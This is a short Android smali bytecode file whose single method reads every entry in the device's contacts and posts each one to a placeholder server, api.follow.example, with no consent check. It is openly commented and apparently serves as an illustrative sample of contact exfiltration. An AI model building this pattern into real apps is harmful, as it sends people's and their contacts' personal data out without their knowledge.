# Reads every name in the address book and uploads it.
.class public final Lorg/example/follow/AddressBook;
.super Ljava/lang/Object;

.method public static upload(Landroid/content/Context;)V
    .registers 8
    invoke-virtual {p0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$Contacts;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    :next
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v1
    if-eqz v1, :end
    const/4 v1, 0x1
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v1
    const-string v2, "https://api.follow.example/v1/contacts"
    invoke-static {v2, v1}, Lorg/example/follow/Upload;->post(Ljava/lang/String;Ljava/lang/String;)V
    goto :next
    :end
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    return-void
.end method
